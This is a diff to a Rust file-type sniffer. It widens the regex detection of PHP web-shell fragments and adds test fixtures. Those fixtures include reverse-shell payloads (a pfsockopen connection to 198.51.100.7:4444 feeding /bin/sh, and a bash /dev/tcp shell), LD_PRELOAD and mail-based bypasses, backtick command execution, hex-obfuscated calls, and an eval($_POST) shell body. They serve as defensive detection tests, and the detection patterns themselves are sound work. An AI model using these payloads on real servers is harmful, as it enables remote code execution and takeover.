@@ -134,11 +134,16 @@ pub fn sniff(bytes: &[u8]) -> FileKind {
     let head = &bytes[..bytes.len().min(64 * 1024)];
     let lower = head.to_ascii_lowercase();
     let has = |needle: &[u8]| memfind(&lower, needle);
-    if has(b"<?php") || lower.trim_ascii_start().starts_with(b"<?") {
+    if lower.trim_ascii_start().starts_with(b"<?") {
         return FileKind::Php;
     }
+    // Statements first, `<?php` only inside a string (code that writes or mails PHP): a
+    // fragment, not a page whose text comes before its code.
     if php_fragment(head) {
         return FileKind::PhpFragment;
+    }
+    if has(b"<?php") {
+        return FileKind::Php;
     }
     if server_config(head) {
         return FileKind::ServerConfig;
@@ -178,16 +183,16 @@ fn php_fragment(head: &[u8]) -> bool {
     static PHP: OnceLock<Vec<(Regex, usize)>> = OnceLock::new();
     static OTHER: OnceLock<Regex> = OnceLock::new();
     let statement = STATEMENT.get_or_init(|| {
-        Regex::new(r"(?m)(^|;|\{|\}|:)\s*((\$[A-Za-z_]\w*|\$\{[^}\n]*\})(\[[^\]\n]*\])*\s*(=|\.=|->|\()|(if|foreach|while)\s*\(\s*(\$|isset|!|@|count|preg_match)|(public|private|protected)?\s*function\s+\w+\s*\(|error_reporting\s*\(|(@\s*)?(eval|assert|die|exit|goto|include|require|include_once|require_once)\b)")
+        Regex::new(r"(?m)(^|;|\{|\}|:)\s*((\$[A-Za-z_]\w*|\$\{[^}\n]*\})(\[[^\]\n]*\])*\s*(=|\.=|->|\()|(if|foreach|while)\s*\(\s*(\$|isset|!|@|count|preg_match)|(public|private|protected)?\s*function\s+\w+\s*\(|error_reporting\s*\(|(@\s*)?(eval|assert|die|exit|goto|include|require|include_once|require_once)\b|@?\s*(system|exec|passthru|shell_exec|putenv|error_log|mail|mb_send_mail|imap_open|unlink|chmod|move_uploaded_file|file_put_contents)\s*\()")
             .expect("valid regex")
     });
     let php = PHP.get_or_init(|| {
         [
-            // Superglobals and `$GLOBALS`.
-            (r"\$(_GET|_POST|_REQUEST|_COOKIE|_SERVER|_FILES|_SESSION|_ENV|GLOBALS)\s*\[", 3),
+            // Superglobals and `$GLOBALS` (a superglobal passed whole: `array_merge($_GET, $_POST)`).
+            (r"\$(_GET|_POST|_REQUEST|_COOKIE|_SERVER|_FILES|_SESSION|_ENV)\b|\$GLOBALS\s*\[", 3),
             (r#"\$\{\s*['"]_(GET|POST|REQUEST|COOKIE|SERVER|FILES)['"]\s*\}"#, 3),
             // Functions only PHP has (JavaScript's decoders are `atob`/`unescape`).
-            (r"(?i)(?:^|[^.\w$>:])(system|exec|assert|pcntl_exec|getallheaders|extract|parse_str|base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|hex2bin|bin2hex|create_function|call_user_func(_array)?|file_put_contents|file_get_contents|fopen|fwrite|fputs|fread|fclose|move_uploaded_file|shell_exec|passthru|proc_open|popen|curl_init|curl_exec|isset|preg_replace(_callback)?|str_replace|implode|explode|strtolower|substr|strlen|urldecode|chr|ord|array_map|function_exists|ini_set|set_time_limit|error_reporting|stream_get_contents|mb_send_mail|htmlspecialchars)\s*\(", 2),
+            (r"(?i)(?:^|[^.\w$>:])(system|exec|assert|pcntl_exec|getallheaders|extract|parse_str|putenv|error_log|fsockopen|pfsockopen|stream_socket_client|socket_create|socket_connect|imap_open|scandir|opendir|readdir|unlink|chmod|highlight_file|readfile|base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|hex2bin|bin2hex|create_function|call_user_func(_array)?|file_put_contents|file_get_contents|fopen|fwrite|fputs|fread|fclose|move_uploaded_file|shell_exec|passthru|proc_open|popen|curl_init|curl_exec|isset|preg_replace(_callback)?|str_replace|implode|explode|strtolower|substr|strlen|urldecode|chr|ord|array_map|function_exists|ini_set|set_time_limit|error_reporting|stream_get_contents|mb_send_mail|htmlspecialchars)\s*\(", 2),
             // `eval(base64_decode(…` and the like: a packed payload's usual first line.
             (r"(?i)\b(eval|assert)\s*\(\s*@?\s*(base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|hex2bin|urldecode|rawurldecode|convert_uudecode|pack|implode|join)\s*\(", 3),
             // PHP-only decoders that have no place in the function list above.
@@ -212,9 +217,13 @@ fn php_fragment(head: &[u8]) -> bool {
             // `goto L1;` and its labels.
             (r"(?m)\bgoto\s+[A-Za-z_]\w*\s*;", 3),
             // `echo`/`print` of a variable or string.
-            (r#"(?m)(^|;|\{)\s*(echo|print)\s*[\$'"(][^\n]*;\s*$"#, 2),
+            (r#"(?m)(^|;|\{)\s*(echo|print)\s*[\$'"(`][^\n]*;\s*$"#, 2),
+            // A variable assigned a string of hex escapes (JavaScript declares it: `var`).
+            (r#"(?m)(^|;)\s*\$[A-Za-z_]\w*\s*=\s*"(\\x[0-9a-fA-F]{2})+""#, 1),
             // A variable called as a function: `$f(…)`.
             (r"\$[A-Za-z_]\w*\s*\(", 1),
+            // An array element called as a function: `$h['X-F'](…)`.
+            (r"\$[A-Za-z_]\w*(\s*\[[^\]\n]*\])+\s*\(", 1),
             // String pieces joined with `.`.
             (r#"['"]\s*\.\s*['"$(]"#, 1),
         ]
@@ -441,6 +450,14 @@ mod tests {
             b"${'_COOKIE'}['f'](${'_COOKIE'}['a']);\n",
             b"$c = ${'_POST'}['cmd'];\nassert($c);\n",
             b"eval(convert_uudecode('0)&,@/2`D7T=%5%LG8R==.P``\n`\n'));\n",
+            b"$h = getallheaders();\n$h['X-F']($h['X-A']);\n",
+            b"putenv('LD_PRELOAD=' . dirname(__FILE__) . '/x.so');\nerror_log('x', 1, 'a@example.com');\n",
+            b"$s = @pfsockopen('198.51.100.7', '4444');\nexec('/bin/sh -i <&3 >&3 2>&3');\n",
+            b"system('bash -c \\'bash -i >& /dev/tcp/' . $_GET['h'] . '/4444 0>&1\\'');\n",
+            b"$c = $_POST['cmd'];\necho `$c`;\n",
+            b"$f = \"\\x6d\\x61\\x69\\x6c\";\n$b = \"\\x3c\\x3f\";\n$f(\"\\x61\", \"\\x78\", $b);\n",
+            b"$body = '<?php eval($_POST[1]); ?>';\nmail('a@example.com', 'x', $body, '', $_POST['p']);\n",
+            b"$p = array_merge($_GET, $_POST);\nif (isset($p['to'])) {\n  mail($p['to'], $p['s'], $p['b']);\n}\n",
         ];
         for p in php {
             assert_eq!(
